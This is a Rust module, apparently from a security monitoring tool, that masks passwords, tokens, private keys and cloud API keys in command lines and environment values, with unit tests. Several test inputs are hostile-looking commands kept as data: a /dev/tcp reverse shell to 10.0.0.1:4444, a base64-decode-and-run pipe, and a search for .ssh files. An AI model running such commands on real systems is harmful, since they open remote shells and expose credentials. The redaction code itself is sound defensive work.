//! Redaction: secrets in command lines, environment values and script text are masked before a
//! finding leaves the process (docs/FINDINGS.md). Rules see the raw values; only what is shipped is masked.
//!
//! What is masked: credentials in URLs (`scheme://user:PASS@host`), `Authorization`/token headers,
//! `--password`-style options and `key=value` pairs whose key names a secret, private-key blocks, and
//! well-known token formats (Google API keys, AWS access keys, GitHub, Slack, JWTs). The rest of the
//! string stays, so the finding is still readable.
#![forbid(unsafe_code)]

use std::sync::OnceLock;

use regex::Regex;

pub const MASK: &str = "[REDACTED]";

struct Patterns {
    /// (pattern, replacement); `$1`/`$2` keep the non-secret parts.
    subs: Vec<(Regex, &'static str)>,
    /// An option naming a secret whose *next* argument is the value (`--password hunter2`).
    secret_option: Regex,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| {
        let secret_key = r"(?i:pass(?:word|wd)?|pwd|secret|token|api[_-]?key|apikey|access[_-]?key|private[_-]?key|client[_-]?secret|credential|session[_-]?id)";
        let subs = vec![
            // -----BEGIN ... PRIVATE KEY----- ... -----END ... PRIVATE KEY-----
            (r"-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?(-----END [A-Z ]*PRIVATE KEY-----|$)".to_string(), "-----BEGIN PRIVATE KEY-----[REDACTED]"),
            // scheme://user:password@host
            (r"([a-zA-Z][a-zA-Z0-9+.-]*://[^/\s:@]+:)[^@\s/]+@".to_string(), "$1[REDACTED]@"),
            // Authorization: Bearer xyz / Basic xyz, and token-ish headers
            (r"(?i)((?:authorization|proxy-authorization)\s*[:=]\s*(?:bearer|basic|token|digest)?\s*)[^\s'\x22]+".to_string(), "$1[REDACTED]"),
            (r"(?i)((?:x-api-key|x-auth-token|private-token|x-goog-api-key)\s*[:=]\s*)[^\s'\x22]+".to_string(), "$1[REDACTED]"),
            // key=value / key: value / --key=value where the key names a secret
            (format!(r"((?:^|[\s&?;,{{'\x22-]){secret_key}[a-zA-Z0-9_-]*['\x22]?\s*[=:]\s*['\x22]?)[^\s&;,'\x22}}]+"), "$1[REDACTED]"),
            // Token formats
            (r"AIza[0-9A-Za-z_-]{35}".to_string(), "[REDACTED]"),
            (r"\b(A3T[A-Z0-9]|AKIA|ASIA|AGPA|AIDA|AROA|ANPA|ANVA)[A-Z0-9]{16}\b".to_string(), "[REDACTED]"),
            (r"\bgh[pousr]_[A-Za-z0-9]{36,}\b".to_string(), "[REDACTED]"),
            (r"\bxox[abprs]-[A-Za-z0-9-]{10,}\b".to_string(), "[REDACTED]"),
            (r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\b".to_string(), "[REDACTED]"),
            (r"\bya29\.[0-9A-Za-z_-]{20,}".to_string(), "[REDACTED]"),
        ];
        Patterns {
            subs: subs.into_iter().map(|(p, r)| (Regex::new(&p).expect("redaction pattern"), r)).collect(),
            secret_option: Regex::new(&format!(r"^--?{secret_key}[a-zA-Z0-9_-]*$")).expect("option pattern"),
        }
    })
}

/// Masks the secrets in one string.
pub fn redact(s: &str) -> String {
    let mut out = s.to_string();
    for (re, rep) in &patterns().subs {
        if re.is_match(&out) {
            out = re.replace_all(&out, *rep).into_owned();
        }
    }
    out
}

/// Masks an argv: each argument, and the argument that follows a secret-naming option.
pub fn redact_args(args: &[String]) -> Vec<String> {
    let mut out = Vec::with_capacity(args.len());
    let mut mask_next = false;
    let program = args.first().map(|a| a.rsplit('/').next().unwrap_or(a)).unwrap_or("");
    let mysql_client = MYSQL_CLIENTS.contains(&program);
    for a in args {
        if mask_next {
            out.push(MASK.to_string());
            mask_next = false;
            continue;
        }
        mask_next = patterns().secret_option.is_match(a);
        // MySQL clients take the password glued to -p (`-phunter2`); for other programs -p... is
        // an ordinary option (`find -path`, `cp -preserve`), kept as it is.
        if mysql_client && a.len() > 2 && a.starts_with("-p") && !a.starts_with("-p ") {
            out.push("-p[REDACTED]".to_string());
            continue;
        }
        out.push(redact(a));
    }
    out
}

/// Programs whose `-pPASSWORD` option carries a password.
const MYSQL_CLIENTS: &[&str] = &[
    "mysql",
    "mysqldump",
    "mysqladmin",
    "mysqlimport",
    "mysqlcheck",
    "mysqlshow",
    "mariadb",
    "mariadb-dump",
];

/// Masks an environment value; a variable whose name names a secret is masked whole.
pub fn redact_env(name: &str, val: &str) -> String {
    let upper = name.to_ascii_uppercase();
    if ["PASSWORD", "PASSWD", "SECRET", "TOKEN", "API_KEY", "APIKEY", "PRIVATE_KEY", "CREDENTIAL"]
        .iter()
        .any(|k| upper.contains(k))
    {
        return MASK.to_string();
    }
    redact(val)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn masks_secrets_and_keeps_the_rest() {
        let cases = [
            (
                "curl -H 'Authorization: Bearer ya29.a0AfH6SMBx' https://x",
                "curl -H 'Authorization: Bearer [REDACTED]' https://x",
            ),
            ("http://bob:hunter2@proxy:3128", "http://bob:[REDACTED]@proxy:3128"),
            ("postgres://app:s3cr3t@db:5432/app", "postgres://app:[REDACTED]@db:5432/app"),
            ("--password=hunter2", "--password=[REDACTED]"),
            ("api_key=abc123&x=1", "api_key=[REDACTED]&x=1"),
            ("https://x/?token=abc&page=2", "https://x/?token=[REDACTED]&page=2"),
            ("AKIAIOSFODNN7EXAMPLE", "[REDACTED]"),
            ("key AIzaSyA1234567890abcdefghijklmnopqrstuv", "key [REDACTED]"),
            ("ghp_abcdefghijklmnopqrstuvwxyz0123456789", "[REDACTED]"),
            (
                "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
                "-----BEGIN PRIVATE KEY-----[REDACTED]",
            ),
            ("ls -la /tmp", "ls -la /tmp"),
            (
                "echo x | base64 -d | sh; cp /bin/true /dev/shm/rw-$$ && HTTPS_PROXY=http://bob:hunter2@127.0.0.1:9 /t/x; true",
                "echo x | base64 -d | sh; cp /bin/true /dev/shm/rw-$$ && HTTPS_PROXY=http://bob:[REDACTED]@127.0.0.1:9 /t/x; true",
            ),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        ];
        for (input, want) in cases {
            assert_eq!(redact(input), want, "input {input:?}");
        }
    }

    #[test]
    fn masks_the_value_after_a_secret_option() {
        let args: Vec<String> = ["mysql", "-u", "root", "--password", "hunter2", "-psecret", "db"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        assert_eq!(redact_args(&args), vec!["mysql", "-u", "root", "--password", MASK, "-p[REDACTED]", "db"]);
        // Other programs' -p options are not passwords.
        let find: Vec<String> =
            ["find", "/", "-path", "*/.ssh/*", "-print"].iter().map(|s| s.to_string()).collect();
        assert_eq!(redact_args(&find), find);
    }

    #[test]
    fn masks_secret_env_names_whole() {
        assert_eq!(redact_env("DB_PASSWORD", "x"), MASK);
        assert_eq!(redact_env("HTTPS_PROXY", "http://u:p@proxy:1"), "http://u:[REDACTED]@proxy:1");
        assert_eq!(redact_env("LD_PRELOAD", "/tmp/x.so"), "/tmp/x.so");
    }
}
